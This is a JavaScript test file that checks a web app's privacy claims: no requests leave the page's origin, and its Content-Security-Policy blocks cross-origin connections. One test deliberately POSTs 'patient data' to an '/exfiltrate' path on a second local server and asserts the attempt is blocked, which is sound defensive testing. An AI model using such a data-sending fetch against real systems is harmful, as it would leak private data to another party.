// Privacy is a feature we prove: no request leaves the page's origin, and the page's
// Content-Security-Policy blocks a deliberate attempt to reach another origin.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { startStaticServer, launchBrowser, openApp, waitForBackend, foreignRequests } from "./harness.mjs";

let app;
let elsewhere; // a second origin (another port) that must never be reached

before(async () => {
  app = await startStaticServer();
  elsewhere = await startStaticServer();
});
after(async () => {
  await app?.close();
  await elsewhere?.close();
});

for (const webgpu of [false, true]) {
  test(`no request leaves the origin (${webgpu ? "WebGPU forced" : "CPU"})`, async () => {
    const browser = await launchBrowser({ webgpu });
    try {
      const query = webgpu ? "?backend=webgpu" : "";
      const { page, requests } = await openApp(browser, `${app.url}/${query}`);
      await waitForBackend(page);
      assert.ok(requests.length >= 3, `expected the page's own requests, got ${requests}`);
      assert.deepEqual(foreignRequests(requests, app.url), []);
      assert.deepEqual(elsewhere.hits, []);
    } finally {
      await browser.close();
    }
  });
}

test("the CSP is present and blocks a cross-origin fetch", async () => {
  const browser = await launchBrowser({ webgpu: false });
  try {
    const { page } = await openApp(browser, `${app.url}/`);
    await waitForBackend(page);
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    assert.ok(csp, "the page must carry a CSP meta tag");
    assert.match(csp, /connect-src 'self'/);
    assert.match(csp, /default-src 'self'/);
    assert.doesNotMatch(csp, /script-src[^;]*'unsafe-inline'/);
    const outcome = await page.evaluate(async (target) => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
      try {
        await fetch(`${target}/exfiltrate?secret=1`, { method: "POST", body: "patient data" });
        return { fetched: true, violations };
      } catch (error) {
        await new Promise((done) => setTimeout(done, 100));
        return { fetched: false, error: String(error), violations };
      }
    }, elsewhere.url);
    assert.equal(outcome.fetched, false, "the cross-origin fetch must fail");
    assert.ok(outcome.violations.some((v) => v.startsWith("connect-src")), JSON.stringify(outcome));
    assert.deepEqual(elsewhere.hits, [], "the other origin must receive nothing");
  } finally {
    await browser.close();
  }
});
